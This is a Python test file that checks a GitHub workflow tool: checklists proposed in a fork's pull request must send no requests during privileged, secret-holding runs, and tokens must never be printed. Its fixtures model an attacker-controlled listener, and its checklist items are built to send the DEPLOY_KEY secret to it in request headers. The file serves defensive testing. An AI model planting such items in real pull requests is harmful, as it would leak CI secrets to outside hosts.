"""In a run that holds secrets, a checklist that a pull request proposes sends no request."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.attacks.second_stage import ON_BASE, POLICY, Stage
from tests.command import checklist
from tests.fakes import events
from tests.fakes.client import TOKEN
from tests.fakes.github import BASE, HEAD, Fault, GitHub
from tests.fakes.servers import Server, respond, serving
from tests.on_github import Workflow

SECRET = "hunter2-hunter2"  # noqa: S105 - a made-up one
PRIVILEGED_EVENTS = ("workflow_run", "issue_comment", "pull_request_target")
"""Events whose run holds secrets even for a pull request from a fork."""


@pytest.fixture
def listener() -> Iterator[Server]:
    """A server that mallory controls."""
    with serving(respond(body=b'{"ok": true}')) as server:
        yield server


def requesting_items(server: Server) -> dict[str, str]:
    """Items that send requests, by the kind of the request."""
    request = f"{{urls: '{server.url()}', headers: {{Authorization: {{env: DEPLOY_KEY}}}}}}"
    metrics = (
        f"{{urls: '{server.url()}', facts: {{ok: {{path: ok, kind: word}}}}, headers: {{X: {{env: DEPLOY_KEY}}}}}}"
    )
    return {
        "http": f"spy | http | {request} | status == 200",
        "metrics": f"spy | metrics | {metrics} | ok == true",
        "tcp": f"spy | tcp | {{targets: '127.0.0.1:{server.port}'}} | accepts",
        "issues": "spy | issues | {} | open == 0",
        "approvals": "spy | approvals | {} | approvals >= 0",
        "alerts": "spy | dependabot | {} | critical == 0",
    }


KINDS = ("http", "metrics", "tcp", "issues", "approvals", "alerts")


def run(stage: Stage, event: str, base: str | None, head: str) -> tuple[int, str]:
    """One run on a fork's pull request that proposes the checklist `head`; its exit code and the comment."""
    stage.client.commit({POLICY: base}, sha=BASE, on="main")
    stage.client.commit({POLICY: head, "a.py": "1"}, BASE, sha=HEAD)
    stage.workflow.more = {"DEPLOY_KEY": SECRET}
    result = stage.workflow.run(event, {"allow_private": "true"})
    assert SECRET not in result.output.replace(f"::add-mask::{SECRET}", "")
    return result.code, stage.comment()


def requests_of_items(client: GitHub) -> list[str]:
    """The requests to GitHub that only the proposed items need."""
    return [line for line in client.log if any(part in line for part in ("/issues?", "/reviews", "/dependabot"))]


@pytest.mark.parametrize("event", PRIVILEGED_EVENTS)
@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("base", [ON_BASE, None], ids=["a changed checklist", "a first checklist"])
def test_a_proposed_checklist_sends_no_request(
    stage: Stage, listener: Server, event: str, kind: str, base: str | None
) -> None:
    _, comment = run(stage, event, base, checklist(requesting_items(listener)[kind]))

    assert listener.requests == []
    assert requests_of_items(stage.client) == []
    assert "spy" in comment


def test_a_merged_checklist_sends_requests(stage: Stage, listener: Server) -> None:
    code, _ = run(
        stage,
        "workflow_run",
        checklist(requesting_items(listener)["http"]),
        checklist(requesting_items(listener)["http"]),
    )

    assert code == 0
    assert [SECRET in request for request in listener.requests] == [True]


def test_a_proposed_item_with_another_address_sends_no_request(stage: Stage, listener: Server) -> None:
    with serving(respond(body=b"{}")) as ours:
        _, comment = run(
            stage,
            "workflow_run",
            checklist(requesting_items(ours)["http"]),
            checklist(requesting_items(listener)["http"]),
        )

        assert len(ours.requests) == 1
    assert listener.requests == []
    assert "spy: pass → unknown" in comment


def test_a_secret_in_a_response_is_shown_nowhere(stage: Stage) -> None:
    echo = f'{{"echo": "{SECRET}"}}'.encode()
    with serving(respond(body=echo)) as server:
        parameters = f"{{urls: '{server.url()}', headers: {{X: {{env: DEPLOY_KEY}}}}, facts: {{echo: echo}}}}"
        policy = checklist(f"spy | http | {parameters} | echo == fine")
        code, comment = run(stage, "workflow_run", policy, policy)

    assert code == 1
    assert SECRET not in comment
    assert "echo is" in comment.replace("`", "")


def test_a_pull_request_from_the_repository_is_previewed_with_its_requests(
    tmp_path: Path, client: GitHub, listener: Server
) -> None:
    workflow = Workflow(tmp_path, client)
    workflow.pull_request({POLICY: ON_BASE}, {POLICY: checklist(requesting_items(listener)["http"]), "a.py": "1"})
    workflow.more = {"DEPLOY_KEY": SECRET}

    workflow.run("pull_request", {"allow_private": "true"}, events.pull_request(7, client=client))

    assert len(listener.requests) == 1


def test_parameters_in_an_artifact_send_no_request(stage: Stage, saved: Any, listener: Server) -> None:
    for item in saved["items"]:
        item["with"] = {"urls": [listener.url()]}

    stage.judge(saved)

    assert listener.requests == []


@pytest.mark.parametrize("padding", [0, 180, 195])
@pytest.mark.parametrize("event", ["workflow_run", "issue_comment", "workflow_dispatch"])
def test_a_start_up_error_that_repeats_the_token_prints_no_part_of_it(stage: Stage, event: str, padding: int) -> None:
    message = "x" * padding + TOKEN
    stage.client.faults += [Fault("GET", path, 403, 99, message=message) for path in ("/pulls$", "/pulls/7$")]

    result = stage.workflow.run(event, {"reported": "result.json"})

    assert result.code == 2
    assert "GitHub answered 403" in result.out
    secrets = result.output.replace(f"::add-mask::{TOKEN}\n", "")
    assert TOKEN[:8] not in secrets
    assert TOKEN[:8] not in (stage.workflow.tmp_path / "summary").read_text(encoding="utf-8")
